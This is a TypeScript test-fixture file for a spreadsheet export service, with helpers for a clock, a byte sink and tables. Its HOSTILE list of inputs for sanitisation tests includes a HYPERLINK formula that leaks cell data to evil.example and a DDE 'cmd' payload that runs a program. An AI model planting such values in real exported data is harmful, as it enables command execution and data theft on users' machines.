import { createCompanyClock } from '../../src/domain/companyClock.ts';
import type { Sink } from '../../src/services/exports/sink.ts';
import type { ExportTable, TableColumn } from '../../src/services/exports/table.ts';

export const tools = {
  clock: createCompanyClock('Europe/Paris', () => new Date('2026-11-23T12:00:00Z')),
  onRows: () => undefined,
};

/** A sink that stores what it receives. */
export function collected(): Sink & { readonly bytes: () => Buffer } {
  const pieces: Uint8Array[] = [];
  return {
    write: async (bytes) => void pieces.push(bytes),
    bytes: () => Buffer.concat(pieces),
  };
}

export type Row = readonly (string | number | Date | null)[];

/** A table of these rows, with columns of these types. */
export function tableOf(kinds: readonly TableColumn<Row>['kind'][], rows: readonly Row[]): ExportTable<Row> {
  return {
    title: 'Clients',
    columns: kinds.map((kind, at) => ({ heading: `C${at}`, kind, value: (row) => row[at] ?? null })),
    pages: (async function* () {
      yield rows;
    })(),
  };
}

/** Texts that an attacker might enter to have them run in a colleague's spreadsheet. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+33 1 22 33 44 55',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '"quoted", with; commas',
  'two\nlines',
  '\u001b[31mred\u202eder',
  '_x0041_ <&> "x"',
];
